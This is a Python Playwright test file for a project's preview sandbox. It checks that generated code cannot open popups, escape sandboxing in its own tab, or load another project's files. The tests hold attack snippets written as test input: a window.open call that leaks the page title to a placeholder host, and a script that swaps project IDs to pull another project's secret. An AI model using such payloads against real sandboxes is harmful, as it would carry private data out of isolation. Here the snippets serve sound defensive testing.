"""The preview's sandbox (issue 14, item 8), attacked from generated code in Debian's Chromium
against a real `vibing web`.

Before: the frame had ``allow-popups`` (generated code could open any site and carry data
out in the URL), a preview opened in its own tab ran unsandboxed on the preview origin, and
one per-launch secret opened every project's files, so one generated app could load
another's.  Now: no popups in the frame or in a tab of its own (the response carries a CSP
``sandbox``), and each project's address has its own secret.
"""

from __future__ import annotations

import http.client as httpc
import json
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import start_app, wait_for_line

playwright = pytest.importorskip("playwright.sync_api")
CHROMIUM = "/usr/bin/chromium"
ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-sync", "--no-first-run"]
WAIT = 15_000
pytestmark = pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Debian's chromium is not installed")

PAGE_A = "<!doctype html><html><head><title>A</title></head><body><h1 id=t>Project A</h1></body></html>"
PAGE_B = '<!doctype html><html><head><title>B</title></head><body><h1>B</h1><script src="b.js"></script></body></html>'
POPUP = """() => { try { const w = window.open('http://127.0.0.1:9/?leak=' + encodeURIComponent(document.title));
                         return w ? 'opened' : 'blocked'; } catch (e) { return 'blocked'; } }"""


@pytest.fixture(scope="module")
def app(tmp_path_factory):
    running = start_app(tmp_path_factory.mktemp("preview-sandbox") / "home")
    yield running
    running.stop()


@pytest.fixture(scope="module")
def web(app):
    proc = subprocess.Popen(
        [sys.executable, "-m", "vibing", "web", "--print-url"],
        env=app.env,
        cwd=app.home,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    yield wait_for_line(proc, "Vibing is served at", 30).split(" at ", 1)[1].strip()
    proc.terminate()
    proc.wait(timeout=10)


@pytest.fixture(scope="module")
def projects(app):
    from vibing.schema.storage import CreateProject, FileWrite

    bus = app.bus()
    a = bus.request("storage", CreateProject(name="Project A", files=[FileWrite(path="index.html", content=PAGE_A)]))
    b = bus.request(
        "storage",
        CreateProject(
            name="Project B",
            files=[
                FileWrite(path="index.html", content=PAGE_B),
                FileWrite(path="b.js", content="window.secretOfB = 'private to B';"),
            ],
        ),
    )
    return a.project.id, b.project.id


@pytest.fixture(scope="module")
def browser():
    with playwright.sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield b
        b.close()


@pytest.fixture
def context(browser):
    ctx = browser.new_context()
    yield ctx
    ctx.close()


def preview_url(web: str, project_id: str) -> str:
    """The project's preview address, asked of the shell as the page asks it."""
    port = int(web.split(":")[2].split("/")[0])
    conn = httpc.HTTPConnection("127.0.0.1", port, timeout=10)
    body = json.dumps({"project_id": project_id})
    headers = {"X-Vibing-Token": web.split("token=")[1], "Origin": f"http://127.0.0.1:{port}"}
    conn.request("POST", "/api/shell/preview.url", body=body, headers=headers)
    reply = json.loads(conn.getresponse().read())
    conn.close()
    assert reply["ok"], reply
    return reply["reply"]


def open_in_ui(context, web: str, project_id: str):
    page = context.new_page()
    page.goto(web.split("#")[0] + f"#/p/{project_id}")
    page.wait_for_selector("body[data-ready='1']", timeout=WAIT)
    page.frame_locator("#preview").locator("#t").wait_for(timeout=WAIT)
    return page


def test_the_frame_cannot_open_a_window(context, web, projects):
    page = open_in_ui(context, web, projects[0])
    assert page.evaluate("() => { const w = window.open('about:blank'); if (w) w.close(); return !!w; }"), (
        "control: this browser lets an ordinary page open a window"
    )
    opened = []
    context.on("page", lambda p: opened.append(p.url))
    body = page.frame_locator("#preview").locator("body")
    assert body.evaluate(POPUP) == "blocked"
    assert "allow-popups" not in page.get_attribute("#preview", "sandbox")
    assert not [url for url in opened if "leak=" in url], opened


def test_a_preview_in_its_own_tab_is_still_sandboxed(context, web, projects):
    tab = context.new_page()
    response = tab.goto(preview_url(web, projects[0]))
    csp = response.headers["content-security-policy"]
    assert "sandbox allow-scripts" in csp and "allow-popups" not in csp and "allow-same-origin" not in csp
    tab.wait_for_selector("#t", timeout=WAIT)
    assert tab.evaluate("() => self.origin") == "null"  # opaque: nothing of the preview origin is its own
    assert tab.evaluate(POPUP) == "blocked"


def test_project_a_cannot_load_project_b_files(context, web, projects):
    a, b = projects
    page = open_in_ui(context, web, a)
    frame = page.frame_locator("#preview").locator("body")
    # generated code in A knows its own address; it swaps in B's id to pull B's script into itself
    loaded = frame.evaluate(
        """(ids) => new Promise((done) => {
             const s = document.createElement('script');
             s.src = location.href.split('?')[0].replace('/' + ids[0] + '/', '/' + ids[1] + '/') + 'b.js';
             s.onload = () => done(window.secretOfB || 'loaded'); s.onerror = () => done('blocked');
             document.head.appendChild(s); })""",
        [a, b],
    )
    assert loaded == "blocked"
    # the same over plain HTTP: A's secret with B's id is 404, B's own address works
    url_a, url_b = preview_url(web, a), preview_url(web, b)
    port = int(url_a.split(":")[2].split("/")[0])
    forged = url_a.split(f":{port}", 1)[1].replace(f"/{a}/", f"/{b}/") + "b.js"
    for path, status in ((forged, 404), (url_b.split(f":{port}", 1)[1] + "b.js", 200)):
        conn = httpc.HTTPConnection("127.0.0.1", port, timeout=10)
        conn.request("GET", path, headers={"Host": f"127.0.0.1:{port}"})
        res = conn.getresponse()
        assert res.status == status, (path, res.status)
        res.read()
        conn.close()
